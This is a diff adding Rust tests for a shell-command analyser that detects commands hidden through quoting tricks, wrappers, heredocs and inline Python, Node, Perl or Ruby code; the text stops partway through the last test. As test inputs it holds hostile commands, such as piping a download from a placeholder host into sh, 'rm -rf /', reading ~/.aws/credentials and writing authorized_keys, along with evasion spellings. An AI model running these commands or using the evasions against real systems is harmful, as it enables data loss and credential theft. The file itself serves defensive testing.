@@ -1,0 +1,938 @@
+//! Behavioural tests of the analyser: every construct the policy relies on, plus adversarial
+//! spellings that try to hide a command from it.
+
+mod common;
+
+use common::{argvs, check_invariants, cmds, find, has, only};
+use warden_shell::{MAX_DEPTH, analyse_argv, analyse_shell};
+
+fn v(xs: &[&str]) -> Vec<String> {
+    xs.iter().map(|s| s.to_string()).collect()
+}
+
+// ---------------------------------------------------------------- words and spelling
+
+#[test]
+fn plain_command_and_span() {
+    let a = analyse_shell("git push origin main");
+    assert_eq!(argvs(&a), vec![v(&["git", "push", "origin", "main"])]);
+    let c = &a.commands[0];
+    assert_eq!((c.span.start, c.span.end), (0, 20));
+    assert!(c.wrappers.is_empty() && !c.dynamic && !c.elevated && c.cwd.is_none());
+    assert!(a.opaque.is_empty());
+}
+
+#[test]
+fn quoting_tricks_resolve_to_git() {
+    for s in [
+        "\\git push",
+        "g\"i\"t push",
+        "g'i't push",
+        "\"g\"\"it\" push",
+        "gi\\t push",
+        "$'\\x67it' push",
+        "$'\\147it' push",
+        "$'\\u0067it' push",
+        "$\"git\" push",
+        "'git' 'push'",
+    ] {
+        assert_eq!(cmds(s), vec![v(&["git", "push"])], "{s}");
+    }
+}
+
+#[test]
+fn ansi_c_escapes_decoded() {
+    let c = only(r"echo $'a\047b\nc\u00e9\x41'", &["echo", "a'b\ncéA"]);
+    assert!(!c.dynamic);
+}
+
+#[test]
+fn absolute_and_relative_program_paths_kept() {
+    assert_eq!(
+        cmds("/usr/bin/git push"),
+        vec![v(&["/usr/bin/git", "push"])]
+    );
+    assert_eq!(
+        cmds("./node_modules/.bin/eslint ."),
+        vec![v(&["./node_modules/.bin/eslint", "."])]
+    );
+}
+
+#[test]
+fn globs_and_tilde_stay_literal_home_becomes_tilde() {
+    let c = only(
+        "ls *.txt ~/x ~ $HOME/y ${HOME}/z \"$HOME\"",
+        &["ls", "*.txt", "~/x", "~", "~/y", "~/z", "~"],
+    );
+    assert!(!c.dynamic);
+}
+
+#[test]
+fn variables_are_dynamic_and_keep_source() {
+    let c = only("rm -rf $DIR/${SUB}", &["rm", "-rf", "$DIR/${SUB}"]);
+    assert!(c.dynamic);
+    // HOME not at the start of a word is not rewritten.
+    let c = only("echo x$HOME", &["echo", "x$HOME"]);
+    assert!(c.dynamic);
+}
+
+#[test]
+fn brace_expansion_small_expands_large_is_dynamic() {
+    let c = only("rm a{b,c}.txt", &["rm", "ab.txt", "ac.txt"]);
+    assert!(!c.dynamic);
+    assert!(has(
+        &analyse_shell("touch f{1..3}"),
+        &["touch", "f1", "f2", "f3"]
+    ));
+    let a = analyse_shell("touch f{1..100000}");
+    assert!(a.commands[0].dynamic);
+    // Quoted braces are not expanded.
+    assert_eq!(cmds("echo '{a,b}'"), vec![v(&["echo", "{a,b}"])]);
+}
+
+#[test]
+fn dynamic_program_name_is_opaque() {
+    for s in [
+        "$CMD push",
+        "$(echo git) push",
+        "`echo git` push",
+        "${X} push",
+        "\"$C\"",
+    ] {
+        let a = analyse_shell(s);
+        assert!(!a.opaque.is_empty(), "{s}: {a:#?}");
+        assert!(!has(&a, &["git", "push"]), "{s}");
+    }
+    // The substitution in the name still runs and is reported.
+    assert!(has(&analyse_shell("$(echo git) push"), &["echo", "git"]));
+}
+
+// ---------------------------------------------------------------- compounds
+
+#[test]
+fn lists_pipelines_and_background() {
+    assert_eq!(
+        cmds("a && b || c; d | e & f; ! g"),
+        vec![
+            v(&["a"]),
+            v(&["b"]),
+            v(&["c"]),
+            v(&["d"]),
+            v(&["e"]),
+            v(&["f"]),
+            v(&["g"])
+        ]
+    );
+}
+
+#[test]
+fn subshells_groups_and_control_flow() {
+    let a = analyse_shell(
+        "(a; b) && { c; d; }; if e; then f; elif g; then h; else i; fi; \
+         while j; do k; done; until l; do m; done; for x in 1 2; do n $x; done; \
+         case $y in p) o;; *) q;; esac; for ((i=0;i<3;i++)); do r; done",
+    );
+    for name in [
+        "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "o", "q", "r",
+    ] {
+        assert!(has(&a, &[name]), "{name} missing: {a:#?}");
+    }
+    assert!(find(&a, &["n", "$x"]).dynamic);
+}
+
+#[test]
+fn function_bodies_are_analysed() {
+    let a = analyse_shell("deploy() { git push --force; }; deploy");
+    assert!(has(&a, &["git", "push", "--force"]));
+    let a = analyse_shell("function f { rm -rf /; }");
+    assert!(has(&a, &["rm", "-rf", "/"]));
+}
+
+#[test]
+fn command_substitutions_everywhere() {
+    let cases: &[(&str, &[&str])] = &[
+        ("echo $(git push)", &["git", "push"]),
+        ("echo `git push`", &["git", "push"]),
+        ("echo \"x $(git push) y\"", &["git", "push"]),
+        ("X=$(git push)", &["git", "push"]),
+        ("export X=$(git push)", &["git", "push"]),
+        ("local X=`git push`", &["git", "push"]),
+        ("cat > $(git push)", &["git", "push"]),
+        ("diff <(git push) >(wc)", &["git", "push"]),
+        ("echo $((1 + $(git push)))", &["git", "push"]),
+        ("[[ $(git push) == x ]]", &["git", "push"]),
+        ("test -n \"$(git push)\"", &["git", "push"]),
+        ("echo ${X:-$(git push)}", &["git", "push"]),
+        ("for f in $(git push); do :; done", &["git", "push"]),
+        ("case $(git push) in *) ;; esac", &["git", "push"]),
+        ("echo $(echo $(git push))", &["git", "push"]),
+        ("echo `echo \\`git push\\``", &["git", "push"]),
+    ];
+    for (s, want) in cases {
+        let a = analyse_shell(s);
+        assert!(has(&a, want), "{s}: {a:#?}");
+        check_invariants(s, &a);
+    }
+}
+
+#[test]
+fn substitution_result_makes_argument_dynamic() {
+    let c = only("rm $(cat list)", &["rm", "$(cat list)"]);
+    assert!(c.dynamic);
+}
+
+// ---------------------------------------------------------------- redirections
+
+#[test]
+fn redirections_to_files() {
+    let c = only(
+        "cmd > a >> b >| c &> d &>> e 2> f 3> g < h 2>&1 >&2 > /dev/null 2>/dev/stderr",
+        &["cmd"],
+    );
+    assert_eq!(c.writes, v(&["a", "b", "c", "d", "e", "f", "g"]));
+    assert_eq!(c.reads, v(&["h"]));
+}
+
+#[test]
+fn redirect_targets_kept_as_written() {
+    let c = only("echo x > ~/.bashrc", &["echo", "x"]);
+    assert_eq!(c.writes, v(&["~/.bashrc"]));
+    let c = only("echo x > \"$HOME/.ssh/authorized_keys\"", &["echo", "x"]);
+    assert_eq!(c.writes, v(&["~/.ssh/authorized_keys"]));
+}
+
+#[test]
+fn redirect_before_command_and_args_after_redirect() {
+    let c = only(">out cmd a 2>err b", &["cmd", "a", "b"]);
+    assert_eq!(c.writes, v(&["out", "err"]));
+}
+
+#[test]
+fn redirect_in_list_applies_to_last_command() {
+    let a = analyse_shell("a && b > f");
+    assert!(find(&a, &["a"]).writes.is_empty());
+    assert_eq!(find(&a, &["b"]).writes, v(&["f"]));
+}
+
+#[test]
+fn redirect_on_group_applies_to_all() {
+    let a = analyse_shell("{ a; b; } > f");
+    assert_eq!(find(&a, &["a"]).writes, v(&["f"]));
+    assert_eq!(find(&a, &["b"]).writes, v(&["f"]));
+}
+
+#[test]
+fn bare_redirection_is_reported() {
+    let a = analyse_shell("> /etc/passwd");
+    assert_eq!(a.commands.len(), 1);
+    assert_eq!(a.commands[0].writes, v(&["/etc/passwd"]));
+}
+
+#[test]
+fn tee_writes() {
+    let a = analyse_shell("echo x | tee -a log.txt ~/.profile /dev/null");
+    assert_eq!(
+        find(&a, &["tee", "-a", "log.txt", "~/.profile", "/dev/null"]).writes,
+        v(&["log.txt", "~/.profile"])
+    );
+    let a = analyse_shell("echo x | sudo tee /etc/hosts");
+    let c = find(&a, &["tee", "/etc/hosts"]);
+    assert_eq!(c.writes, v(&["/etc/hosts"]));
+    assert!(c.elevated);
+}
+
+// ---------------------------------------------------------------- cd
+
+#[test]
+fn cd_sets_cwd_for_following_commands() {
+    let a = analyse_shell("cd a && cd b && git push; (cd c; x); y");
+    assert_eq!(find(&a, &["git", "push"]).cwd.as_deref(), Some("a/b"));
+    assert_eq!(find(&a, &["x"]).cwd.as_deref(), Some("a/b/c"));
+    assert_eq!(find(&a, &["y"]).cwd.as_deref(), Some("a/b"));
+    assert!(!has(&a, &["cd", "a"]));
+}
+
+#[test]
+fn cd_absolute_parent_and_pushd() {
+    let a = analyse_shell("cd /srv/app; cd ../other; x; pushd sub; y; popd; z");
+    assert_eq!(find(&a, &["x"]).cwd.as_deref(), Some("/srv/other"));
+    assert_eq!(find(&a, &["y"]).cwd.as_deref(), Some("/srv/other/sub"));
+    assert_eq!(find(&a, &["z"]).cwd.as_deref(), Some("/srv/other"));
+}
+
+#[test]
+fn cd_in_pipeline_or_nested_shell_does_not_leak() {
+    let a = analyse_shell("cd a | true; x; bash -c 'cd b'; y");
+    assert_eq!(find(&a, &["x"]).cwd, None);
+    assert_eq!(find(&a, &["y"]).cwd, None);
+    // but eval runs in the current shell
+    let a = analyse_shell("eval 'cd e'; z");
+    assert_eq!(find(&a, &["z"]).cwd.as_deref(), Some("e"));
+}
+
+#[test]
+fn env_chdir_sets_cwd() {
+    let c = only("env -C /tmp git push", &["git", "push"]);
+    assert_eq!(c.cwd.as_deref(), Some("/tmp"));
+}
+
+// ---------------------------------------------------------------- wrappers
+
+#[test]
+fn shell_dash_c_variants() {
+    for (s, w) in [
+        ("bash -c 'git push'", "bash -c"),
+        ("sh -c 'git push'", "sh -c"),
+        ("bash -lc 'git push'", "bash -c"),
+        ("bash -ec 'git push'", "bash -c"),
+        ("sh -xc 'git push'", "sh -c"),
+        ("bash -e -u -c 'git push'", "bash -c"),
+        ("bash --login -c 'git push'", "bash -c"),
+        ("bash -o pipefail -c 'git push'", "bash -c"),
+        ("zsh -c 'git push'", "zsh -c"),
+        ("dash -c 'git push'", "dash -c"),
+        ("ksh -c 'git push'", "ksh -c"),
+        ("fish -c 'git push'", "fish -c"),
+        ("/bin/bash -c 'git push' name arg", "bash -c"),
+    ] {
+        let a = analyse_shell(s);
+        assert_eq!(argvs(&a), vec![v(&["git", "push"])], "{s}");
+        assert_eq!(a.commands[0].wrappers, v(&[w]), "{s}");
+    }
+}
+
+#[test]
+fn shell_string_span_points_into_original() {
+    let s = "bash -c 'git push'";
+    let a = analyse_shell(s);
+    let sp = a.commands[0].span;
+    assert_eq!(&s[sp.start..sp.end], "git push");
+}
+
+#[test]
+fn nested_shells() {
+    let a = analyse_shell("bash -c \"sh -c 'git push'\"");
+    let c = find(&a, &["git", "push"]);
+    assert_eq!(c.wrappers, v(&["bash -c", "sh -c"]));
+}
+
+#[test]
+fn dynamic_shell_string_is_opaque() {
+    for s in [
+        "sh -c \"$(echo git push)\"",
+        "sh -c \"$X\"",
+        "bash -c \"git $X\"",
+        "eval \"$CMD\"",
+        "eval $(echo git push)",
+    ] {
+        let a = analyse_shell(s);
+        assert!(!a.opaque.is_empty(), "{s}: {a:#?}");
+        assert!(!has(&a, &["git", "push"]), "{s}");
+    }
+}
+
+#[test]
+fn shell_script_file_is_a_command() {
+    let a = analyse_shell("bash script.sh arg");
+    assert_eq!(argvs(&a), vec![v(&["bash", "script.sh", "arg"])]);
+    assert!(a.opaque.is_empty());
+}
+
+#[test]
+fn eval_strings() {
+    let a = analyse_shell("eval \"git push\"");
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["eval"]));
+    assert!(has(
+        &analyse_shell("eval git push --force"),
+        &["git", "push", "--force"]
+    ));
+}
+
+#[test]
+fn env_sudo_and_friends() {
+    let cases: &[(&str, &[&str], bool)] = &[
+        ("env git push", &["env"], false),
+        ("env -i -u HOME -- X=1 git push", &["env"], false),
+        ("X=1 Y=2 git push", &[], false),
+        ("sudo git push", &["sudo"], true),
+        ("sudo -u deploy -E -n -- git push", &["sudo"], true),
+        ("sudo -g grp -H git push", &["sudo"], true),
+        ("sudo --user=root git push", &["sudo"], true),
+        ("doas -u root git push", &["doas"], true),
+        ("timeout 5 git push", &["timeout"], false),
+        ("timeout -s KILL -k 5 30s git push", &["timeout"], false),
+        ("timeout --signal=TERM 5 git push", &["timeout"], false),
+        ("nice git push", &["nice"], false),
+        ("nice -n 10 git push", &["nice"], false),
+        ("nohup git push", &["nohup"], false),
+        ("stdbuf -oL -eL git push", &["stdbuf"], false),
+        ("time git push", &["time"], false),
+        ("time -p git push", &["time"], false),
+        ("command git push", &["command"], false),
+        ("command -p git push", &["command"], false),
+        ("builtin git push", &["builtin"], false),
+        ("exec git push", &["exec"], false),
+        ("exec -a name git push", &["exec"], false),
+        ("chroot /mnt git push", &["chroot"], false),
+        ("unshare -r -n git push", &["unshare"], false),
+        ("nsenter -t 1 -m -u git push", &["nsenter"], false),
+        ("setsid -f git push", &["setsid"], false),
+        ("ionice -c 3 git push", &["ionice"], false),
+        ("chrt -f 10 git push", &["chrt"], false),
+        ("taskset 0x3 git push", &["taskset"], false),
+        ("taskset -c 1,2 git push", &["taskset"], false),
+        ("caffeinate -i git push", &["caffeinate"], false),
+        (
+            "sudo env X=1 timeout 10 nice -n 5 nohup git push",
+            &["sudo", "env", "timeout", "nice", "nohup"],
+            true,
+        ),
+    ];
+    for (s, wrappers, elevated) in cases {
+        let a = analyse_shell(s);
+        assert_eq!(argvs(&a), vec![v(&["git", "push"])], "{s}");
+        let c = &a.commands[0];
+        assert_eq!(c.wrappers, v(wrappers), "{s}");
+        assert_eq!(c.elevated, *elevated, "{s}");
+        assert!(a.opaque.is_empty(), "{s}");
+    }
+}
+
+#[test]
+fn wrapper_without_command_is_itself() {
+    assert_eq!(cmds("sudo -l"), vec![v(&["sudo", "-l"])]);
+    assert_eq!(cmds("env"), vec![v(&["env"])]);
+    assert_eq!(cmds("command -v git"), vec![v(&["command", "-v", "git"])]);
+    assert!(only("sudo -i", &["sudo", "-i"]).elevated);
+}
+
+#[test]
+fn su_and_script_and_watch_and_flock() {
+    let c = only("su -c 'rm -rf /' root", &["rm", "-rf", "/"]);
+    assert!(c.elevated);
+    assert_eq!(c.wrappers, v(&["su -c"]));
+    let c = only("su root -c 'git push'", &["git", "push"]);
+    assert!(c.elevated);
+    assert_eq!(
+        only("script -q -c 'git push' /dev/null", &["git", "push"]).wrappers,
+        v(&["script -c"])
+    );
+    assert_eq!(
+        only("watch -n 5 git push", &["git", "push"]).wrappers,
+        v(&["watch"])
+    );
+    assert_eq!(
+        only("watch 'git push && rm x'", &["rm", "x"]).wrappers,
+        v(&["watch"])
+    );
+    assert_eq!(
+        only("flock /tmp/l -c 'git push'", &["git", "push"]).wrappers,
+        v(&["flock"])
+    );
+    assert_eq!(
+        only("flock -n -w 3 /tmp/l git push", &["git", "push"]).wrappers,
+        v(&["flock"])
+    );
+}
+
+#[test]
+fn xargs_parallel_find_are_dynamic() {
+    let c = only("ls | xargs rm -rf", &["rm", "-rf"]);
+    assert!(c.dynamic);
+    assert_eq!(c.wrappers, v(&["xargs"]));
+    let c = only(
+        "xargs -0 -n 1 -I{} -P 4 git push {}",
+        &["git", "push", "{}"],
+    );
+    assert!(c.dynamic);
+    let c = only("xargs sh -c 'git push'", &["git", "push"]);
+    assert_eq!(c.wrappers, v(&["xargs", "sh -c"]));
+    assert!(c.dynamic);
+    assert!(only("xargs", &["echo"]).dynamic);
+    let c = only("parallel -j4 rm ::: a b", &["rm"]);
+    assert!(c.dynamic);
+    let a = analyse_shell("parallel ::: 'git push' 'rm x'");
+    assert!(has(&a, &["git", "push"]) && has(&a, &["rm", "x"]));
+
+    let a = analyse_shell("find . -name '*.o' -exec rm {} +");
+    let f = find(&a, &["find", ".", "-name", "*.o", "-exec", "rm", "{}", "+"]);
+    assert!(f.wrappers.is_empty());
+    let r = find(&a, &["rm", "{}"]);
+    assert!(r.dynamic);
+    assert_eq!(r.wrappers, v(&["find -exec"]));
+    let a = analyse_shell("find . -execdir sh -c 'git push' \\; -ok rm {} \\;");
+    assert!(has(&a, &["git", "push"]) && has(&a, &["rm", "{}"]));
+    let a = analyse_shell("find . -delete");
+    assert_eq!(argvs(&a), vec![v(&["find", ".", "-delete"])]);
+    let a = analyse_shell("find / -fprint /etc/x");
+    assert_eq!(a.commands[0].writes, v(&["/etc/x"]));
+}
+
+#[test]
+fn ssh_is_not_peeled() {
+    assert_eq!(
+        cmds("ssh host git push"),
+        vec![v(&["ssh", "host", "git", "push"])]
+    );
+}
+
+#[test]
+fn wrapper_redirects_reach_inner_commands() {
+    let c = only("sudo git push > out < in", &["git", "push"]);
+    assert_eq!(
+        (c.writes.clone(), c.reads.clone()),
+        (v(&["out"]), v(&["in"]))
+    );
+    let c = only("bash -c 'git push' > out", &["git", "push"]);
+    assert_eq!(c.writes, v(&["out"]));
+    // An empty script still truncates the file: report the shell itself.
+    let a = analyse_shell("sh -c '' > /etc/x");
+    assert_eq!(a.commands.len(), 1);
+    assert_eq!(a.commands[0].writes, v(&["/etc/x"]));
+}
+
+// ---------------------------------------------------------------- stdin scripts
+
+#[test]
+fn heredocs_and_herestrings_fed_to_shells() {
+    let a = analyse_shell("bash <<EOF\ngit push\nrm -rf x\nEOF\n");
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["bash <stdin"]));
+    assert!(has(&a, &["rm", "-rf", "x"]));
+    assert!(!has(&a, &["bash"]));
+    let a = analyse_shell("sh <<<'git push'");
+    assert!(has(&a, &["git", "push"]));
+    let a = analyse_shell("sudo bash <<'EOF'\ncd /etc && rm -rf x\nEOF");
+    let c = find(&a, &["rm", "-rf", "x"]);
+    assert!(c.elevated);
+    assert_eq!(c.cwd.as_deref(), Some("/etc"));
+    // a quoted heredoc is not expanded by the outer shell; an unquoted one is, once.
+    let a = analyse_shell("bash <<EOF\ngit push $(id)\nEOF");
+    assert_eq!(a.commands.iter().filter(|c| c.argv == ["id"]).count(), 1);
+    assert!(find(&a, &["git", "push", "$(id)"]).dynamic);
+}
+
+#[test]
+fn heredoc_substitutions_run_in_outer_shell() {
+    let a = analyse_shell("cat > f <<EOF\n$(rm -rf x)\nEOF");
+    assert!(has(&a, &["rm", "-rf", "x"]));
+    assert_eq!(find(&a, &["cat"]).writes, v(&["f"]));
+    let a = analyse_shell("cat > f <<'EOF'\n$(rm -rf x)\nEOF");
+    assert!(!has(&a, &["rm", "-rf", "x"]));
+}
+
+#[test]
+fn piped_scripts() {
+    let a = analyse_shell("echo 'git push' | bash");
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["bash <stdin"]));
+    let a = analyse_shell("printf 'rm -rf x' | sh");
+    assert!(has(&a, &["rm", "-rf", "x"]));
+    let a = analyse_shell("cat <<EOF | sh\ngit push\nEOF");
+    assert!(has(&a, &["git", "push"]));
+    let a = analyse_shell("curl -fsSL example.invalid/install.sh | sh");
+    assert!(!a.opaque.is_empty());
+    assert!(has(&a, &["sh"]));
+    let a = analyse_shell("curl example.invalid/x.py | python3");
+    assert!(!a.opaque.is_empty());
+}
+
+#[test]
+fn sql_clients_get_stdin_body() {
+    let a = analyse_shell("psql -d app <<SQL\nDROP TABLE users;\nSQL\n");
+    assert_eq!(
+        argvs(&a),
+        vec![v(&[
+            "psql",
+            "-d",
+            "app",
+            "--warden-stdin=DROP TABLE users;\n"
+        ])]
+    );
+    let a = analyse_shell("sqlite3 db <<<'ALTER TABLE t ADD c'");
+    assert_eq!(
+        a.commands[0].argv.last().map(String::as_str),
+        Some("--warden-stdin=ALTER TABLE t ADD c\n")
+    );
+    for client in ["mysql", "mariadb", "duckdb", "clickhouse-client"] {
+        let a = analyse_shell(&format!("{client} <<< 'DROP DATABASE x'"));
+        assert!(
+            a.commands[0]
+                .argv
+                .iter()
+                .any(|x| x.starts_with("--warden-stdin=DROP")),
+            "{client}"
+        );
+    }
+    let a = analyse_shell("echo 'DROP TABLE t' | psql");
+    assert!(has(&a, &["psql", "--warden-stdin=DROP TABLE t\n"]));
+}
+
+// ---------------------------------------------------------------- inline interpreter code
+
+#[test]
+fn python_inline() {
+    let a = analyse_shell("python3 -c 'import os; os.system(\"git push\")'");
+    assert!(has(
+        &a,
+        &["python3", "-c", "import os; os.system(\"git push\")"]
+    ));
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["python3 -c"]));
+    let cases: &[(&str, &[&str])] = &[
+        (
+            "python -c 'import subprocess; subprocess.run([\"git\", \"push\"])'",
+            &["git", "push"],
+        ),
+        (
+            "python3 -c 'import subprocess as s; s.check_call(\"rm -rf x\", shell=True)'",
+            &["rm", "-rf", "x"],
+        ),
+        ("python3 -c 'import os; os.popen(\"id\").read()'", &["id"]),
+        (
+            "python2 -c 'import os; os.execvp(\"git\", [\"git\", \"push\"])'",
+            &["git", "push"],
+        ),
+        ("python3 -c 'import pty; pty.spawn(\"bash\")'", &["bash"]),
+        (
+            "python3 -c 'exec(\"import os; os.system(\\\"git push\\\")\")'",
+            &["git", "push"],
+        ),
+        (
+            "python3 -u -c 'import os; os.system(\"git push\")'",
+            &["git", "push"],
+        ),
+        (
+            "python3.12 -c '__import__(\"os\").system(\"git push\")'",
+            &["git", "push"],
+        ),
+    ];
+    for (s, want) in cases {
+        let a = analyse_shell(s);
+        assert!(has(&a, want), "{s}: {a:#?}");
+    }
+}
+
+#[test]
+fn python_non_literal_is_opaque() {
+    for s in [
+        "python3 -c 'import os; os.system(cmd)'",
+        "python3 -c 'import os; os.system(f\"git {x}\")'",
+        "python3 -c 'import os; os.system(\"git \" + x)'",
+        "python3 -c 'import subprocess; subprocess.run(args)'",
+        "python3 -c \"$CODE\"",
+    ] {
+        let a = analyse_shell(s);
+        assert!(!a.opaque.is_empty(), "{s}: {a:#?}");
+    }
+    // Code without process starts is not opaque.
+    let a = analyse_shell("python3 -c 'print(1 + 2)'");
+    assert!(a.opaque.is_empty());
+}
+
+#[test]
+fn node_and_friends_inline() {
+    let cases: &[(&str, &[&str], &str)] = &[
+        (
+            "node -e 'require(\"child_process\").execSync(\"git push --force\")'",
+            &["git", "push", "--force"],
+            "node -e",
+        ),
+        (
+            "node --eval 'require(\"child_process\").spawn(\"git\", [\"push\"])'",
+            &["git", "push"],
+            "node --eval",
+        ),
+        (
+            "node -p 'require(\"child_process\").execFileSync(\"rm\", [\"-rf\", \"x\"])'",
+            &["rm", "-rf", "x"],
+            "node -p",
+        ),
+        (
+            "bun -e 'Bun.spawn([\"git\", \"push\"])'",
+            &["git", "push"],
+            "bun -e",
+        ),
+        (
+            "deno eval 'new Deno.Command(\"git\", {args: [\"push\"]})'",
+            &["git"],
+            "deno eval",
+        ),
+        (
+            "perl -e 'system(\"git push\")'",
+            &["git", "push"],
+            "perl -e",
+        ),
+        (
+            "perl -e 'system(\"git\", \"push\")'",
+            &["git", "push"],
+            "perl -e",
+        ),
+        ("perl -ne 'print qx{id}'", &["id"], "perl -e"),
+        ("perl -E 'exec \"git push\"'", &["git", "push"], "perl -E"),
+        ("ruby -e '`rm -rf x`'", &["rm", "-rf", "x"], "ruby -e"),
+        (
+            "ruby -e 'system(\"git push\")'",
+            &["git", "push"],
+            "ruby -e",
+        ),
+        ("ruby -e '%x(git push)'", &["git", "push"], "ruby -e"),
+        (
+            "php -r 'shell_exec(\"git push\");'",
+            &["git", "push"],
+            "php -r",
+        ),
+        (
+            "php -r 'passthru(\"git push\");'",
+            &["git", "push"],
+            "php -r",
+        ),
+        (
+            "lua -e 'os.execute(\"git push\")'",
+            &["git", "push"],
+            "lua -e",
+        ),
+        (
+            "awk 'BEGIN { system(\"git push\") }'",
+            &["git", "push"],
+            "awk",
+        ),
+    ];
+    for (s, want, wrapper) in cases {
+        let a = analyse_shell(s);
+        let c = find(&a, want);
+        assert_eq!(c.wrappers, v(&[wrapper]), "{s}");
+    }
+    for s in [
+        "node -e 'require(\"child_process\").execSync(cmd)'",
+        "node -e 'require(\"child_\" + \"process\")'",
+        "node -e 'require(\"child_process\").execSync(`git ${x}`)'",
+        "perl -e 'system(\"git $x\")'",
+        "ruby -e 'system(\"git #{x}\")'",
+    ] {
+        assert!(!analyse_shell(s).opaque.is_empty(), "{s}");
+    }
+}
+
+#[test]
+fn interpreter_heredocs() {
+    let a =
+        analyse_shell("python3 <<EOF\nimport subprocess\nsubprocess.run(['git','push'])\nEOF\n");
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["python3 <stdin"]));
+    let a = analyse_shell("node <<<'require(\"child_process\").execSync(\"rm -rf x\")'");
+    assert!(has(&a, &["rm", "-rf", "x"]));
+    // A script file is not inline code.
+    let a = analyse_shell("python3 manage.py migrate");
+    assert_eq!(argvs(&a), vec![v(&["python3", "manage.py", "migrate"])]);
+}
+
+#[test]
+fn interpreter_inside_wrappers() {
+    let a = analyse_shell("sudo bash -c \"python3 -c 'import os; os.system(\\\"git push\\\")'\"");
+    let c = find(&a, &["git", "push"]);
+    assert_eq!(c.wrappers, v(&["sudo", "bash -c", "python3 -c"]));
+    assert!(c.elevated);
+}
+
+// ---------------------------------------------------------------- errors and bounds
+
+#[test]
+fn parse_errors_are_opaque_but_visible_commands_reported() {
+    let a = analyse_shell("git push; if then fi )");
+    assert!(!a.opaque.is_empty());
+    assert!(has(&a, &["git", "push"]));
+    let a = analyse_shell("echo \"unterminated");
+    assert!(!a.opaque.is_empty());
+}
+
+#[test]
+fn depth_bound() {
+    let s = "eval ".repeat(MAX_DEPTH + 4) + "git push";
+    let a = analyse_shell(&s);
+    assert!(
+        a.opaque.iter().any(|o| o.reason.contains("deeper")),
+        "{a:#?}"
+    );
+    assert!(!has(&a, &["git", "push"]));
+    check_invariants(&s, &a);
+    let long_chain = "nice ".repeat(MAX_DEPTH + 2) + "git push";
+    assert!(!analyse_shell(&long_chain).opaque.is_empty());
+}
+
+#[test]
+fn oversized_input_is_opaque() {
+    let s = "a".repeat(warden_shell::MAX_INPUT + 1);
+    let a = analyse_shell(&s);
+    assert!(a.commands.is_empty());
+    assert_eq!(a.opaque.len(), 1);
+}
+
+#[test]
+fn deep_syntax_nesting_terminates() {
+    let s = "(".repeat(5000) + "git push" + &")".repeat(5000);
+    let a = analyse_shell(&s);
+    check_invariants(&s, &a);
+    assert!(!a.opaque.is_empty());
+    let s = "$(".repeat(3000) + "x" + &")".repeat(3000);
+    let a = analyse_shell(&s);
+    check_invariants(&s, &a);
+}
+
+// ---------------------------------------------------------------- argv entry point
+
+#[test]
+fn argv_entry_point_peels() {
+    let a = analyse_argv(&v(&["bash", "-c", "git push"]));
+    assert_eq!(argvs(&a), vec![v(&["git", "push"])]);
+    assert_eq!(a.commands[0].wrappers, v(&["bash -c"]));
+    let sp = a.commands[0].span;
+    assert_eq!(&"bash -c git push"[sp.start..sp.end], "git push");
+
+    let a = analyse_argv(&v(&["sudo", "env", "X=1", "git", "push"]));
+    assert_eq!(argvs(&a), vec![v(&["git", "push"])]);
+    assert!(a.commands[0].elevated);
+
+    // Words are literal: no expansion, no unquoting.
+    let a = analyse_argv(&v(&["echo", "$HOME", "'q'", "*"]));
+    assert_eq!(argvs(&a), vec![v(&["echo", "$HOME", "'q'", "*"])]);
+    assert!(!a.commands[0].dynamic);
+
+    let a = analyse_argv(&v(&["python3", "-c", "import os; os.system('rm -rf x')"]));
+    assert!(has(&a, &["rm", "-rf", "x"]));
+    let a = analyse_argv(&v(&["find", ".", "-exec", "rm", "{}", ";"]));
+    assert!(find(&a, &["rm", "{}"]).dynamic);
+    assert!(analyse_argv(&[]).commands.is_empty());
+}
+
+#[test]
+fn non_ascii_after_brace_does_not_crash_the_parser() {
+    // tree-sitter-bash 0.25's scanner calls isdigit() on the code point after `{`; found by
+    // the property tests (SIGSEGV). The analyser must shield the parser from it.
+    for s in [
+        "echo {\u{10FFFF}",
+        "x {\u{1F600}..",
+        "{\u{3000}",
+        "a\u{0}; rm -rf x",
+        "é{ü,ö}",
+    ] {
+        let a = analyse_shell(s);
+        check_invariants(s, &a);
+    }
+    // Values still come from the original text.
+    assert_eq!(cmds("echo héllo"), vec![v(&["echo", "héllo"])]);
+    // NUL does not hide what follows it.
+    assert!(has(
+        &analyse_shell("true\u{0}; rm -rf x"),
+        &["rm", "-rf", "x"]
+    ));
+}
+
+#[test]
+fn less_common_places_commands_hide() {
+    // trap handlers are shell text
+    let a = analyse_shell("trap 'git push' EXIT");
+    assert_eq!(find(&a, &["git", "push"]).wrappers, v(&["trap"]));
+    assert!(has(&analyse_shell("trap - EXIT"), &["trap", "-", "EXIT"]));
+    // coproc is not understood by the grammar: approximate, and say so
+    let a = analyse_shell("coproc x { git push; }");
+    assert!(has(&a, &["git", "push"]) && !a.opaque.is_empty());
+    // `$(< file)` reads the file
+    let a = analyse_shell("echo $(< ~/.aws/credentials)");
+    assert!(a.commands.iter().any(|c| c.reads == ["~/.aws/credentials"]));
+    // scripts from process substitution
+    for s in [
+        "bash <(curl example.invalid/x)",
+        "source <(curl example.invalid/x)",
+    ] {
+        let a = analyse_shell(s);
+        assert!(
+            has(&a, &["curl", "example.invalid/x"]) && !a.opaque.is_empty(),
+            "{s}"
+        );
+    }
+    // arrays and arithmetic commands
+    assert!(has(&analyse_shell("a=(1 $(git push))"), &["git", "push"]));
+    assert!(has(
+        &analyse_shell("(( x = $(git push) ))"),
+        &["git", "push"]
+    ));
+    // comments are not commands
+    assert_eq!(cmds("# git push"), Vec::<Vec<String>>::new());
+}
+
+#[test]
+fn separator_tricks() {
+    // $IFS as a separator makes the program name dynamic: opaque, never `git`.
+    let a = analyse_shell("git${IFS}push");
+    assert!(!a.opaque.is_empty() && a.commands.is_empty());
+    // line continuation joins words
+    assert_eq!(cmds("git \\\npush"), vec![v(&["git", "push"])]);
+    assert_eq!(cmds("gi\\\nt push"), vec![v(&["git", "push"])]);
+    // newlines, tabs and comments separate commands
+    assert_eq!(
+        cmds("ls\n\tgit push # x\nrm x"),
+        vec![v(&["ls"]), v(&["git", "push"]), v(&["rm", "x"])]
+    );
+    // bash -c of a downloaded script: the download is reported, the script is opaque
